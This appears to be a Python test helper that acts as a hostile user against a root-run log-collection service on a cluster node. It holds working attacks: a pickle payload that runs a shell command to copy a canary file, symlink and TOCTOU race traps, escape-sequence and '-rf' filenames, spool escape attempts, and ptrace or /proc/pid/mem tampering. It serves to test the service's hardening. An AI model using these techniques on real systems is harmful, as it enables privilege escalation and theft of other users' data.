"""What a hostile user does, run as that user on a node: ``attacks.py VERB ARGUMENT...``. Standard library alone.

Each try prints one line, ``name: done`` or ``name: EACCES``, so that a test sees what the attacker got.
"""

from __future__ import annotations

import contextlib
import ctypes
import errno
import os
import pickle
import signal
import socket
import stat
import sys
import time
from collections.abc import Callable, Iterator
from typing import Any

#: A line that the readers know: what they read of a file shows up as a fact.
FACT = "n1:7:9 [0] misc/socket.cc:50 NCCL WARN {}\n"


def attempt(name: str, act: Callable[..., Any], *arguments: Any) -> None:
    try:
        act(*arguments)
        print(f"{name}: done", flush=True)
    except OSError as error:
        print(f"{name}: {errno.errorcode.get(error.errno or 0, '?')}", flush=True)


def write(path: str, text: str) -> None:
    with open(path, "w", encoding="utf-8", errors="surrogateescape") as file:
        file.write(text)


def read(path: str) -> None:
    with open(path, "rb") as file:
        print(repr(file.read(4096)), flush=True)


class Bomb:
    """Unpickled by a careless reader it runs a command with that reader's rights."""

    def __init__(self, command: str) -> None:
        self.command = command

    def __reduce__(self) -> tuple[Callable[..., Any], tuple[str]]:
        return os.system, (self.command,)


def traps(folder: str, canary: str, other: str, own: str) -> None:
    """Everything that is no plain file of this user, under names that the readers look for."""
    os.chdir(folder)
    write("good.log", FACT.format("plain words"))
    targets = {"canary": canary, "other": other, "own": own, "init": "/proc/1/environ", "zero": "/dev/zero"}
    for name, target in {**targets, "self": "/proc/self/environ", "loop": "link.loop", "up": "../root"}.items():
        attempt(f"link {name}", os.symlink, target, f"link.{name}")
    attempt("hard link canary", os.link, canary, "hard.canary")
    attempt("hard link other", os.link, other, "hard.other")
    attempt("fifo", os.mkfifo, "nccl.n1.1.log")
    socket.socket(socket.AF_UNIX).bind("socket.log")
    attempt("device", os.mknod, "device.log", 0o600 | stat.S_IFBLK, os.makedev(8, 0))
    attempt("sparse", lambda: os.truncate(os.open("sparse.log", os.O_RDWR | os.O_CREAT, 0o600), 10 << 40))
    with open("nccl_trace_rank_0", "wb") as file:
        pickle.dump(Bomb(f"cp {canary} {folder}/../../../home/alice/stolen; id -u >{own}.uid"), file)
    os.mkdir("shut")
    write("shut/x.log", FACT.format("shut"))
    os.chmod("shut", 0)
    for number, name in enumerate(
        ("new\nline", "\x1b[2J\x1b]52;c;AAAA\x07", "\udcff\udcfe", "..\\..", "é" * 127, "-rf")
    ):
        attempt(f"name {number}", write, f"{name}.x"[:250], FACT.format(f"name {number}"))
    os.mkdir("deep")
    os.chdir("deep")
    for _ in range(3000):
        os.mkdir("d")
        os.chdir("d")


def climb(folder: str) -> None:
    """Out of the folder: into the run's, the spool, and root's part of both."""
    run = os.path.realpath(os.path.join(folder, ".."))
    spool = os.path.dirname(run)
    attempt("list spool", os.listdir, spool)
    attempt("list root", os.listdir, f"{run}/root")
    attempt("read record", read, f"{run}/root/prolog.env")
    attempt("write beside", write, f"{run}/closed", "x")
    attempt("swap user", os.rename, f"{run}/user", f"{run}/user2")
    attempt("remove user", os.rmdir, f"{run}/user")
    attempt("take root", os.rename, f"{run}/root", f"{run}/user/root")
    attempt("claim a job", os.mkdir, f"{spool}/99999.1")
    attempt("claim a link", os.symlink, "/etc", f"{spool}/99999")
    attempt("retarget", os.unlink, run)
    attempt("give away", os.chown, folder, 0, 0)


def many(folder: str, count: str) -> None:
    for number in range(int(count)):
        os.close(os.open(f"{folder}/f{number:07d}.log", os.O_CREAT | os.O_WRONLY, 0o600))
    write(f"{folder}/a.log", FACT.format("among many"))


def shut(folder: str) -> None:
    write(f"{folder}/x.log", FACT.format("hidden"))
    os.chmod(folder, 0)


@contextlib.contextmanager
def left_behind(out: str) -> Iterator[None]:
    """The rest runs in a process that left the job: two forks and a session of its own, as at(1) or cron would."""
    if os.fork():
        os._exit(0)
    os.setsid()
    if os.fork():
        os._exit(0)
    null = os.open(os.devnull, os.O_RDWR)
    to = os.open(out, os.O_WRONLY | os.O_CREAT | os.O_APPEND, 0o600)
    for source, target in ((null, 0), (to, 1), (to, 2)):
        os.dup2(source, target)
    yield
    print("end", flush=True)
    os._exit(0)


def swap(folder: str, target: str, seconds: str, out: str) -> None:
    """A folder that is a link half of the time, and a file that is one, while root's code reads."""
    os.makedirs(f"{folder}/d")
    write(f"{folder}/d/x.log", FACT.format("in the folder"))
    write(f"{folder}/f.log", FACT.format("in the file"))
    with left_behind(out):
        os.symlink(os.path.dirname(target), f"{folder}/.d")
        os.symlink(target, f"{folder}/.f")
        end, rounds = time.monotonic() + float(seconds), 0
        while time.monotonic() < end:
            for name in ("d", "f"):
                current = f"{folder}/{name}{'.log' if name == 'f' else ''}"
                with contextlib.suppress(OSError):
                    os.rename(current, f"{folder}/.t")
                    os.rename(f"{folder}/.{name}", current)
                    os.rename(f"{folder}/.t", f"{folder}/.{name}")
            rounds += 1
        print(f"rounds {rounds}")


def grow(folder: str, seconds: str, out: str) -> None:
    """A file that is held open and never ends."""
    with left_behind(out):
        end = time.monotonic() + float(seconds)
        with contextlib.suppress(OSError), open(f"{folder}/grow.log", "w", encoding="ascii") as file:
            while time.monotonic() < end:
                file.write(FACT.format("more") * 50)
                file.flush()
                time.sleep(0.01)


def hunt(folder: str, seconds: str, out: str, number: str) -> None:
    """Waits for the process that reads the folder as this user; looks into it, then sends it ``number``."""
    write(f"{folder}/slow.log", FACT.format("x") * 80_000)
    with left_behind(out):
        end = time.monotonic() + float(seconds)
        while time.monotonic() < end:
            for pid in filter(str.isdigit, os.listdir("/proc")):
                if _is_reader(pid) and _starts_below(folder.partition("/spool/")[0], pid):
                    _tamper(int(pid), int(number))
                    return


def _is_reader(pid: str) -> bool:
    """Root has become this user: the kernel says so in `status`, which everybody can read."""
    with contextlib.suppress(OSError):
        with open(f"/proc/{pid}/cmdline", "rb") as line:
            if b"capture/main.py" not in line.read():
                return False
        with open(f"/proc/{pid}/status", encoding="ascii") as status:
            return f"Uid:\t{os.getuid()}\t" in status.read()
    return False


def _starts_below(scratch: str, pid: str) -> bool:
    """Of this cluster: a process above it was started by a name in its folder. Others may run on the machine."""
    while pid not in ("0", "1"):
        with contextlib.suppress(OSError), open(f"/proc/{pid}/cmdline", "rb") as line:
            if f"{scratch}/".encode() in line.read():
                return True
        try:
            with open(f"/proc/{pid}/stat", encoding="ascii", errors="replace") as stat:
                pid = stat.read().rpartition(") ")[2].split()[1]
        except OSError:
            return False
    return False


def _tamper(pid: int, number: int) -> None:
    print(f"reader: {pid}")
    for name in ("environ", "mem", "maps"):
        attempt(f"open {name}", read, f"/proc/{pid}/{name}")
    attempt("list fd", os.listdir, f"/proc/{pid}/fd")
    attempt("write its answer", write, f"/proc/{pid}/fd/1", "{}")
    libc = ctypes.CDLL(None, use_errno=True)
    libc.ptrace(16, pid, None, None)  # PTRACE_ATTACH
    print(f"ptrace: {errno.errorcode.get(ctypes.get_errno(), 'done')}")
    attempt("signal", os.kill, pid, number)
    if number == signal.SIGSTOP:
        time.sleep(1)


if __name__ == "__main__":
    VERBS: dict[str, Callable[..., None]] = {
        "traps": traps,
        "climb": climb,
        "many": many,
        "shut": shut,
        "swap": swap,
        "grow": grow,
        "hunt": hunt,
    }
    VERBS[sys.argv[1]](*sys.argv[2:])
